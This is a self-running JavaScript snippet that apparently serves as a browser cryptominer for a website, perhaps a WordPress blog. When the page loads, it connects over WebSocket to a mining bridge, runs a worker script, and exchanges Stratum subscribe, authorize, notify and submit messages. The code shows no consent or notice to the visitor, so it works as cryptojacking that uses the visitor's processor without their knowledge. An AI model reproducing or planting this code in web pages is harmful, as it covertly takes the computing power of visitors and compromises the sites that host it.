// ES2017: Stratum of the Bitcoin kind, over a WebSocket.
(async function () {
  const socket = new WebSocket('wss://bridge.blog.example:8443/');
  const worker = new Worker('/wp/task.js');
  let turn = 0, difficulty = 1;
  function ask(method, params) {
    socket.send(JSON.stringify({ id: ++turn, method, params }) + '\n');
  }
  await new Promise(function (ready) { socket.onopen = ready; });
  ask('mining.subscribe', ['page/1']);
  ask('mining.authorize', ['rig.one', 'x']);
  socket.onmessage = function (event) {
    const { method, params } = JSON.parse(event.data);
    if (method === 'mining.set_difficulty') difficulty = params[0];
    if (method === 'mining.notify') worker.postMessage({ params, difficulty });
  };
  worker.onmessage = function ({ data }) {
    ask('mining.submit', ['rig.one', data.job, data.extranonce2, data.ntime,
      data.nonce]);
  };
})();
